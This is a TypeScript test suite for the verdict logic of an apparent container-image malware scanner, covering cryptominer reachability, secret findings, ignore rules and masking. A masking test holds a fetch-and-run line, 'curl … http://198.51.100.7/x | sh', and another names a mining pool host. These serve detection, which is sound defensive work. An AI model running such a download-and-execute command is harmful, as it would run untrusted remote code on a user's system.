import assert from 'node:assert/strict';
import { test } from 'node:test';
import { processorTime } from '../../test/fixtures/processor-time.ts';
import {
  detected,
  type FactsOptions,
  type JudgedEntry,
  judgeContext,
  layerReport,
  targetFacts,
} from '../../test/fixtures/target-facts.ts';
import type { ImageDetection, ImageFinding } from '../detect/detector.ts';
import type { Finding } from '../model/finding.ts';
import { type JudgeContext, judge } from './judge.ts';

type Report = ReturnType<typeof judge>;

/** Judges an image of these layers. */
function judgeImage(
  layers: readonly (readonly JudgedEntry[])[],
  options: FactsOptions = {},
  context: Partial<JudgeContext> = {},
): Report {
  return judge(
    targetFacts(
      layers.map((one) => layerReport(one)),
      options,
    ),
    judgeContext(context),
  );
}

const only = ({ findings }: Report): Finding => {
  assert.equal(findings.length, 1, JSON.stringify(findings.map((one) => one.title)));
  return findings[0] ?? assert.fail();
};

const whiteout = (path: string): JudgedEntry => ({ path, type: 'whiteout' });
const started = (...words: string[]): FactsOptions => ({ config: { entrypoint: words } });

test('state and reach follow the final file system', () => {
  const miner = { path: '/opt/miner', findings: [{ subject: 'program' as const }] };
  const present = judgeImage([[miner]], started('/opt/miner'));
  assert.deepEqual(
    [only(present).state, only(present).reachable, present.verdict],
    ['present', true, 'malicious'],
  );
  const deleted = judgeImage([[miner], [whiteout('/opt/miner')]], started('/opt/miner'));
  assert.deepEqual(
    [only(deleted).state, only(deleted).reachable, deleted.verdict],
    ['deleted', false, 'suspicious'],
  );
  const shadowed = judgeImage(
    [[miner], [{ path: '/opt/miner', content: 'harmless' }]],
    started('/opt/miner'),
  );
  assert.deepEqual([only(shadowed).state, only(shadowed).reachable], ['shadowed', false]);
  const unreached = judgeImage([[miner]]);
  assert.deepEqual([only(unreached).reachable, unreached.verdict], [false, 'suspicious']);
});

test('a start path reaches a threat under another name: hard link, symbolic link, copy', () => {
  const miner = { path: '/usr/share/doc/x', content: 'miner', findings: [{ subject: 'program' as const }] };
  const names: readonly JudgedEntry[] = [
    { path: '/bin/start', type: 'hardlink', link: '/usr/share/doc/x' },
    { path: '/bin/start', type: 'symlink', link: '/usr/share/doc/x' },
    { path: '/bin/start', content: 'miner' },
  ];
  for (const name of names) {
    const report = judgeImage([[miner, name]], started('/bin/start'));
    assert.equal(only(report).reachable, true, JSON.stringify(name));
    assert.equal(report.verdict, 'malicious');
  }
  assert.equal(only(judgeImage([[miner]], started('/bin/start'))).reachable, false);
});

test('a start path reaches through scripts', () => {
  const script = { path: '/start.sh', start: { refs: [], commands: [['/opt/x', '-c', '/opt/pool.json']] } };
  const settings = { path: '/opt/pool.json', findings: [{}] };
  assert.equal(only(judgeImage([[script, settings]], started('/start.sh'))).reachable, true);
});

test('a text by itself is at most strong, a program may be conclusive', () => {
  for (const [subject, confidence] of [
    ['text', 0.89],
    ['program', 0.97],
    ['secret', 0.97],
  ] as const) {
    const report = judgeImage([[{ path: '/opt/a', findings: [{ subject, confidence: 0.97 }] }]]);
    assert.equal(only(report).confidence, confidence, subject);
  }
});

test('a miner with a verified wallet or pool is conclusive where a start path runs it', () => {
  const settings = (
    proves: 'wallet' | 'pool' | 'miner',
    category: 'cryptomining' | 'ddos' = 'cryptomining',
  ) => [{ path: '/opt/a', findings: [{ proves, category }] }];
  for (const proves of ['wallet', 'pool'] as const) {
    assert.equal(only(judgeImage([settings(proves)], started('/opt/a'))).confidence, 0.95);
    assert.equal(only(judgeImage([settings(proves)])).confidence, 0.7);
  }
  assert.equal(only(judgeImage([settings('miner')], started('/opt/a'))).confidence, 0.7);
  assert.equal(only(judgeImage([settings('wallet', 'ddos')], started('/opt/a'))).confidence, 0.7);
  const shadowed = judgeImage([settings('wallet'), [{ path: '/opt/a', content: 'b' }]], started('/opt/a'));
  assert.equal(only(shadowed).confidence, 0.7);
});

test('the proof counts whichever of two findings is surer', () => {
  const findings = [{ confidence: 0.8 }, { confidence: 0.6, proves: 'wallet' as const }];
  const report = judgeImage([[{ path: '/opt/a', findings }]], started('/opt/a'));
  assert.equal(only(report).confidence, 0.95);
});

test('what weighs more when started does so only then', () => {
  const entry = { path: '/opt/a', findings: [{ confidence: 0.4, whenStarted: 0.8 }] };
  assert.equal(only(judgeImage([[entry]])).confidence, 0.4);
  assert.equal(only(judgeImage([[entry]], started('/opt/a'))).confidence, 0.8);
});

test('what tells something when it is started is medium then', () => {
  const severity = (whenStarted: number, ...config: Parameters<typeof judgeImage>[1][]) =>
    only(
      judgeImage(
        [[{ path: '/opt/a', findings: [{ confidence: 0.3, severity: 'low', whenStarted }] }]],
        ...config,
      ),
    ).severity;
  assert.equal(severity(0.5), 'low');
  assert.equal(severity(0.5, started('/opt/a')), 'medium');
  assert.equal(severity(0.3, started('/opt/a')), 'low');
});

test('a text under documentation is weak and low, unless it is started; a program is what it is', () => {
  const path = '/usr/share/doc/miner/config.json';
  const text = judgeImage([[{ path, findings: [{ confidence: 0.85, severity: 'critical' }] }]]);
  assert.deepEqual([only(text).confidence, only(text).severity, text.verdict], [0.3, 'low', 'clean']);
  const run = judgeImage([[{ path, findings: [{ confidence: 0.85, severity: 'critical' }] }]], started(path));
  assert.deepEqual([only(run).confidence, run.verdict], [0.85, 'malicious']);
  const program = judgeImage([[{ path, findings: [{ subject: 'program', confidence: 0.95 }] }]]);
  assert.deepEqual([only(program).confidence, program.verdict], [0.95, 'malicious']);
});

test('hits of one rule in one file are one finding with the evidence of each', () => {
  const findings = [{ offset: 10 }, { offset: 500 }];
  const finding = only(judgeImage([[{ path: '/opt/a', findings }]]));
  assert.deepEqual(
    finding.evidence.map((one) => [one.layer, one.path, one.offset]),
    [
      [0, '/opt/a', 10],
      [0, '/opt/a', 500],
    ],
  );
});

test('the same file in two layers is one finding, present where any of them is', () => {
  const entry = { path: '/opt/a', content: 'same', findings: [{}] };
  const finding = only(judgeImage([[entry], [whiteout('/opt/a')], [entry]]));
  assert.deepEqual(
    finding.evidence.map((one) => one.layer),
    [0, 2],
  );
  assert.equal(finding.state, 'present');
});

test('evidence is listed up to twenty places', () => {
  const findings = Array.from({ length: 30 }, (_, offset) => ({ offset }));
  assert.equal(only(judgeImage([[{ path: '/opt/a', findings }]])).evidence.length, 20);
});

test('an id is the same in every layer, image and version, and differs by rule, path, content and value', () => {
  const idOf = (layers: readonly (readonly JudgedEntry[])[], options?: FactsOptions): string =>
    only(judgeImage(layers, options)).id;
  const entry = { path: '/opt/a', content: 'x', findings: [{}] };
  const id = idOf([[entry]]);
  assert.match(id, /^[0-9a-f]{32}$/);
  const other = { path: '/etc/other' };
  assert.equal(idOf([[other], [], [other, entry]], started('/opt/a')), id);
  assert.equal(idOf([[{ ...entry, findings: [{ offset: 9, confidence: 0.9, title: 'New' }] }]]), id);
  const ids = [
    id,
    idOf([[{ ...entry, path: '/opt/b' }]]),
    idOf([[{ ...entry, content: 'y' }]]),
    idOf([[{ ...entry, findings: [{ rule: 'test/other' }] }]]),
    idOf([[{ ...entry, findings: [{ value: 'v' }] }]]),
    idOf([[{ ...entry, findings: [{ member: 'inner' }] }]]),
  ];
  assert.equal(new Set(ids).size, ids.length);
  // A value stands for itself whatever else is in the file.
  const valued = (content: string) => [[{ path: '/opt/a', content, findings: [{ value: 'v' }] }]];
  assert.equal(idOf(valued('x')), idOf(valued('y')));
});

test('a member of an archive is named behind the path of its file', () => {
  const finding = only(judgeImage([[{ path: '/opt/a.tar', findings: [{ member: 'x!y' }] }]]));
  assert.equal(finding.evidence[0]?.path, '/opt/a.tar!x!y');
});

test('an ignore entry takes a finding out of verdict, score and categories until its last day', () => {
  const entry = { path: '/opt/a', findings: [{ confidence: 0.95, subject: 'program' as const }] };
  const ignores = [{ rule: 'test/rule', reason: 'ours', expires: '2026-11-23' }];
  const ignored = judgeImage([[entry]], {}, { ignores });
  assert.deepEqual([ignored.verdict, ignored.score, ignored.categories], ['clean', 0, []]);
  assert.deepEqual(only(ignored).ignored, { reason: 'ours', expires: '2026-11-23' });
  const now = new Date('2026-11-24T00:00:00Z');
  const expired = judgeImage([[entry]], {}, { ignores, now });
  assert.equal(expired.verdict, 'malicious');
  assert.equal(only(expired).ignored, undefined);
});

test('categories are those of medium findings and worse, in their usual order', () => {
  const findings = [
    { rule: 'a', category: 'other', severity: 'medium' },
    { rule: 'b', category: 'embedded-secret', severity: 'high' },
    { rule: 'c', category: 'typosquat', severity: 'low' },
    { rule: 'd', category: 'cryptomining', confidence: 0.7 },
  ] as const;
  const report = judgeImage([[{ path: '/opt/a', findings }]]);
  assert.deepEqual(report.categories, ['cryptomining', 'embedded-secret', 'other']);
});

test('findings are ordered from the worst, ignored ones last, and always the same way', () => {
  const entries = [
    { path: '/a', findings: [{ category: 'other', severity: 'low', confidence: 0.9 }] },
    { path: '/b', findings: [{ category: 'other', severity: 'high', confidence: 0.5 }] },
    { path: '/c', findings: [{ category: 'other', severity: 'high', confidence: 0.6 }] },
    { path: '/d', findings: [{ category: 'other', severity: 'critical', rule: 'ignored' }] },
  ] as const;
  const ignores = [{ rule: 'ignored', reason: 'ours', expires: '2030-01-01' }];
  const paths = (list: readonly JudgedEntry[]): string[] =>
    judgeImage([list], {}, { ignores }).findings.map((one) => one.evidence[0]?.path ?? '');
  assert.deepEqual(paths(entries), ['/c', '/b', '/a', '/d']);
  assert.deepEqual(paths(entries.toReversed()), ['/c', '/b', '/a', '/d']);
});

test('of a secret that two rules see the surer one is told, secrets beside each other stay', () => {
  const secret = { subject: 'secret', category: 'embedded-secret', severity: 'medium' } as const;
  const findings = [
    { ...secret, rule: 'general', confidence: 0.5, offset: 10, length: 30 },
    { ...secret, rule: 'special', confidence: 0.9, offset: 20, length: 20 },
    { ...secret, rule: 'beside', confidence: 0.4, offset: 40, length: 5 },
  ];
  const rules = judgeImage([[{ path: '/a', findings }]]).findings.map((one) => one.rule);
  assert.deepEqual(rules.sort(), ['beside', 'special']);
});

test('thousands of findings at one path are judged quickly', () => {
  const secret = { subject: 'secret', category: 'embedded-secret', value: 'same' } as const;
  const entries = Array.from({ length: 10_000 }, (_, index) => ({
    path: '/a',
    content: String(index),
    findings: [{ ...secret, offset: index * 10 }],
  }));
  const used = processorTime();
  assert.equal(judgeImage([entries]).findings.length, 1);
  assert.ok(used() < 2000);
});

const imageFinding = (changes: Partial<ImageFinding>): ImageFinding => ({
  ...detected(),
  place: 'config',
  key: 'Env.A',
  runs: false,
  ...changes,
});

function inspectingImage(
  findings: readonly ImageFinding[],
  observables: ImageDetection['observables'] = [],
): Report {
  return judgeImage([[]], {}, { inspections: [() => ({ findings, observables })] });
}

test('what the configuration runs is reached, what it merely says is not', () => {
  const runs = inspectingImage([imageFinding({ key: 'Entrypoint', runs: true, proves: 'wallet' })]);
  assert.deepEqual([only(runs).reachable, only(runs).confidence, runs.verdict], [true, 0.95, 'malicious']);
  const says = inspectingImage([imageFinding({ place: 'history', key: 'history[3]', layer: 2 })]);
  assert.deepEqual([only(says).reachable, says.verdict], [false, 'suspicious']);
  assert.deepEqual(only(says).evidence, [{ kind: 'history', layer: 2, path: 'history[3]', excerpt: 'text' }]);
});

test('a line of the history keeps its id when lines come before it', () => {
  const idAt = (key: string): string => only(inspectingImage([imageFinding({ place: 'history', key })])).id;
  assert.equal(idAt('history[3]'), idAt('history[7]'));
  const hostAt = (key: string): string =>
    only(inspectingImage([], [{ type: 'domain', value: 'pool.supportxmr.com', note: 'url', offset: 0, key }]))
      .id;
  assert.equal(hostAt('history[3]'), hostAt('history[7]'));
});

test('a name alone is never above risky', () => {
  const name = imageFinding({
    place: 'name',
    key: 'reference',
    category: 'typosquat',
    severity: 'medium',
    confidence: 1,
  });
  assert.equal(inspectingImage([name]).verdict, 'risky');
});

test('closed documentation is a hole only where a start path reads it', () => {
  const closed = { path: '/usr/share/doc/a/run.gz', closed: true };
  assert.equal(judgeImage([[closed]]).verdict, 'clean');
  const script = { path: '/start.sh', start: { refs: ['/usr/share/doc/a/run.gz'], commands: [] } };
  const reached = judgeImage([[closed, script]], started('/start.sh'));
  assert.equal(reached.verdict, 'incomplete');
  assert.deepEqual(
    reached.coverage.skipped.map(({ path, reason, layer }) => [path, reason, layer]),
    [['/usr/share/doc/a/run.gz', 'unsupported', 0]],
  );
});

test('coverage lists the holes of the run, the image and each layer', () => {
  const layers = [layerReport([{ path: '/a' }]), layerReport([], [{ path: '/b', reason: 'encrypted' }])];
  const facts = targetFacts(layers, { skipped: [{ path: 'sha256:c', reason: 'foreign-layer', layer: 2 }] });
  const { coverage, verdict } = judge(
    facts,
    judgeContext({ skipped: [{ path: 'yara', reason: 'detector-missing' }] }),
  );
  assert.deepEqual(coverage.skipped, [
    { path: 'yara', reason: 'detector-missing' },
    { path: 'sha256:c', reason: 'foreign-layer', layer: 2 },
    { path: '/b', reason: 'encrypted', layer: 1 },
  ]);
  assert.deepEqual([coverage.layers, coverage.files, verdict], [2, 1, 'incomplete']);
});

test('indicators are what stands beside a threat, and what is telling by itself', () => {
  const host = (value: string) => ({ type: 'domain' as const, value });
  const wallet = { type: 'wallet' as const, value: 'w' };
  const report = judgeImage([
    [
      { path: '/opt/miner', findings: [{ subject: 'program' }], observables: [host('beside.example')] },
      { path: '/etc/other', observables: [host('elsewhere.example'), wallet] },
      { path: '/usr/share/doc/readme', observables: [{ type: 'wallet', value: 'donation' }] },
    ],
  ]);
  assert.deepEqual(
    report.indicators.map(({ type, value }) => `${type} ${value}`.slice(0, 30)),
    ['domain beside.example', `sha256 ${report.findings[0]?.evidence[0]?.sha256}`.slice(0, 30), 'wallet w'],
  );
});

test('values elsewhere do not crowd out those beside a threat', () => {
  const crowd = Array.from({ length: 2000 }, (_, index) => ({
    type: 'wallet' as const,
    value: `crowd ${index}`,
  }));
  const report = judgeImage([
    [
      { path: '/etc/crowd', observables: crowd },
      { path: '/opt/miner', findings: [{}], observables: [{ type: 'wallet', value: 'the one' }] },
    ],
  ]);
  assert.ok(report.indicators.some((one) => one.value === 'the one'));
  assert.equal(report.indicators.length, 1000);
});

test('every quotation is masked, whichever detector made it', () => {
  const mask = (text: string): string => text.replaceAll('hunter2', '…');
  const finding = { subject: 'text' as const, excerpt: 'curl -u a:hunter2 http://198.51.100.7/x | sh' };
  const report = judgeImage([[{ path: '/opt/x.sh', findings: [finding] }]], {}, { mask });
  assert.equal(only(report).evidence[0]?.excerpt, 'curl -u a:… http://198.51.100.7/x | sh');
  assert.ok(!JSON.stringify(report).includes('hunter2'));
});

test('names are masked like whatever is quoted', () => {
  const mask = (text: string) => text.replaceAll('TOKEN', '…');
  const path = '/opt/TOKEN/run';
  const skipped = [{ path: '/TOKEN', reason: 'missing' as const }];
  const report = judgeImage(
    [
      [
        {
          path,
          findings: [{ excerpt: 'TOKEN' }],
          observables: [{ type: 'url', value: 'http://a.example/TOKEN' }],
        },
      ],
    ],
    { ...started(path), skipped },
    { mask },
  );
  assert.ok(!JSON.stringify(report).includes('TOKEN'), JSON.stringify(report, undefined, 1));
  assert.equal(only(report).evidence[0]?.path, '/opt/…/run');
});
